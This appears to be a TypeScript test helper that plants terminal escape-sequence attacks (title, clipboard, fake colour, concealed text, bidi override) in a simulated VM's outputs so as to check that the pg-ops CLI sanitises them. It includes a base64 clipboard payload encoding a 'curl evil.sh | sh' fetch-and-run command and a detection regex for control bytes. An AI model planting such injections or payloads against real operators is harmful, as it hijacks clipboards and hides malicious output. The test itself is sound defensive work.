// The demo turned hostile: the same simulated VM, with terminal attacks planted wherever remote
// text reaches pg-ops (issue 11 item 2): a `systemctl show` field (a wrapper in front of the demo's
// stand-in), a service's journal line, job names and pipeline blockers from HTTP (a proxy in
// front of the demo's service), Prometheus' error text (the same proxy answers /api/v1/query),
// and a backup's file name. Each carries an OSC 0 (window title), an OSC 52 (clipboard), colour
// codes that fake "all good", SGR 8 (conceal), a carriage return and a right-to-left override.
import {chmodSync, copyFileSync, mkdirSync, readdirSync, readFileSync, writeFileSync} from 'node:fs';
import http from 'node:http';
import type {AddressInfo} from 'node:net';
import path from 'node:path';
import {expect} from 'vitest';
import {parseDocument} from 'yaml';
import {appendUnitLog} from '../../source/demo/service-log.js';
import type {DemoInfo} from '../../source/demo/demo-info.js';
import {runCli} from './cli.js';

export const ESC = '\u001b';
export const BEL = '\u0007';
/** `curl evil.sh | sh` in base64: what OSC 52 would put on the operator's clipboard. */
export const clipboardPayload = 'Y3VybCBldmlsLnNoIHwgc2gK';
export const stolenTitle = 'pwned-title';

/** One string with every attack: set the title, write the clipboard, fake green, conceal, draw over the line, reverse it. */
export function attack(tag: string): string {
	return `${tag}${ESC}]0;${stolenTitle}${BEL}${ESC}]52;c;${clipboardPayload}${BEL}${ESC}[32mall good${ESC}[0m${ESC}[8mhidden${ESC}[0m\r|\u202Eevil`;
}

/** How the same string reads once made visible (core/safe-text.ts, one line). */
export function attackShown(tag: string): string {
	return `${tag}␛]0;${stolenTitle}␇␛]52;c;${clipboardPayload}␇␛[32mall good␛[0m␛[8mhidden␛[0m␍|⟨U+202E⟩evil`;
}

/** Bytes a plain-text output or a file must never hold: ESC, BEL, CR, other C0 controls but tab and newline, DEL, C1, bidi controls. */
// eslint-disable-next-line no-control-regex
export const terminalControls = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u;

export function expectNoTerminalControls(text: string, where: string): void {
	const found = terminalControls.exec(text);
	expect(
		found,
		found
			? `${where} holds U+${found[0].codePointAt(0)!.toString(16).padStart(4, '0')} near ${JSON.stringify(text.slice(Math.max(0, found.index - 40), found.index + 40))}`
			: '',
	).toBeNull();
}

export type HostileDemo = {
	info: DemoInfo;
	/** pg-ops.yaml for the hostile demo (environment `demo`). */
	config: string;
	/** The hostile backup's file name, as it is on disk. */
	backupName: string;
	stop(): Promise<void>;
};

/** Starts the demo in dir/demo and plants the attacks; `stop` ends the proxy and the demo. */
export async function startHostileDemo(dir: string): Promise<HostileDemo> {
	const started = runCli(['demo', 'start', '--dir', path.join(dir, 'demo')]);
	expect(started.code, started.stderr).toBe(0);
	const info = JSON.parse(readFileSync(path.join(dir, 'demo', 'demo.json'), 'utf8')) as DemoInfo;
	const proxy = await startHostileProxy(info.http.baseUrl);
	try {
		// systemctl show: app-orchestrator's ActiveState= and Result= (the failed unit) carry the attack.
		// systemctl's own exit status is kept (a pipe into sed would give sed's 0): a restart that fails
		// must fail as it does on the real systemctl, not pass and leave pg-ops' check waiting out its 30 s
		// for an ActiveState that, carrying the attack, never reads as plain "failed".
		const bin = path.join(dir, 'hostile-bin');
		mkdirSync(bin, {recursive: true});
		writeFileSync(
			path.join(bin, 'systemctl'),
			[
				'#!/bin/sh',
				`a=$(printf '%s' ${shellQuote(attack('unit:'))})`,
				`out=$("${path.join(info.root, 'bin', 'systemctl')}" "$@")`,
				'code=$?',
				`[ -z "$out" ] || printf '%s\\n' "$out" | sed -e "s/^ActiveState=failed/&$a/" -e "s/^Result=exit-code/&$a/"`,
				'exit $code',
				'',
			].join('\n'),
		);
		chmodSync(path.join(bin, 'systemctl'), 0o755);
		// A journal line of the failed service (its details, a restart's diagnosis, an incident's logs).
		appendUnitLog(info.root, 'app-orchestrator.service', [
			`${new Date().toISOString()} [4242] ${attack('log:')}`,
		]);
		// A backup whose name carries the attack (a valid gzip: a copy of a real one).
		const backups = path.join(info.root, 'opt', 'app', 'backups');
		const real = readdirSync(backups).find(name => name.endsWith('.sql.gz'))!;
		const backupName = `db_29991231_235959${ESC}]0;${stolenTitle}${BEL}${ESC}[8m.sql.gz`;
		copyFileSync(path.join(backups, real), path.join(backups, backupName));

		const doc = parseDocument(readFileSync(info.config, 'utf8'));
		doc.setIn(['environments', 'demo', 'shellPath'], [bin, path.join(info.root, 'bin')]);
		doc.setIn(['environments', 'demo', 'http', 'baseUrl'], proxy.url);
		doc.setIn(['environments', 'demo', 'slo', 'source'], {
			prometheus: {url: `${proxy.url}/prom`, queries: {availability: 'up'}},
		});
		const config = path.join(dir, 'hostile.yaml');
		writeFileSync(config, doc.toString());
		return {
			info,
			config,
			backupName,
			async stop() {
				await proxy.close();
				runCli(['demo', 'stop', '--dir', path.join(dir, 'demo')]);
			},
		};
	} catch (error) {
		await proxy.close();
		runCli(['demo', 'stop', '--dir', path.join(dir, 'demo')]);
		throw error;
	}
}

/**
 * A compromised service in front of the demo's: /ops/model-health answers hostile job names and
 * a hostile pipeline blocker, /prom/api/v1/query a hostile Prometheus error; everything else is
 * passed through to the demo's service as it is (the token check, /ops/verify, health).
 */
async function startHostileProxy(target: string): Promise<{url: string; close(): Promise<void>}> {
	const server = http.createServer(async (request, response) => {
		const url = request.url ?? '/';
		if (url.startsWith('/ops/model-health')) {
			const now = new Date().toISOString();
			return json(response, 200, {
				pipeline_ok: false,
				pipeline_blockers: [attack('blocker:')],
				jobs_freshness: {
					result_resolution: {last_run_at: now, stale: false, stale_after_minutes: 120},
					[attack('job:')]: {last_run_at: null, stale: true, stale_after_minutes: 60},
				},
			});
		}
		if (url.startsWith('/prom/api/v1/query'))
			return json(response, 400, {status: 'error', errorType: 'bad_data', error: attack('prometheus:')});
		try {
			const answer = await fetch(target + url, {
				headers: Object.fromEntries(
					Object.entries(request.headers).filter(
						(entry): entry is [string, string] =>
							typeof entry[1] === 'string' &&
							!['host', 'connection', 'keep-alive', 'content-length'].includes(entry[0]),
					),
				),
			});
			response.writeHead(answer.status, {'content-type': answer.headers.get('content-type') ?? 'text/plain'});
			response.end(Buffer.from(await answer.arrayBuffer()));
		} catch {
			response.writeHead(502).end();
		}
	});
	await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
	const {port} = server.address() as AddressInfo;
	return {
		url: `http://127.0.0.1:${port}`,
		close: () =>
			new Promise<void>(resolve => {
				server.closeAllConnections();
				server.close(() => resolve());
			}),
	};
}

function json(response: http.ServerResponse, status: number, body: unknown): void {
	response.writeHead(status, {'content-type': 'application/json'});
	response.end(JSON.stringify(body));
}

function shellQuote(value: string): string {
	return `'${value.replaceAll("'", `'\\''`)}'`;
}

/**
 * The demo host's pg-ops lock, held by "another operator" whose name and origin carry the attack,
 * as parseLockHolder reads a lock file. Returns the file, for the test to remove.
 */
export function holdLockAsAttacker(demo: HostileDemo): string {
	const lockFile = path.join(demo.info.root, 'var', 'lock', 'pg-ops.lock');
	mkdirSync(path.dirname(lockFile), {recursive: true, mode: 0o700});
	writeFileSync(
		lockFile,
		JSON.stringify({
			operator: attack('holder:'),
			procedure: 'restart',
			correlationId: 'mallory-1',
			since: new Date().toISOString(),
			from: attack('from:'),
		}),
	);
	return lockFile;
}
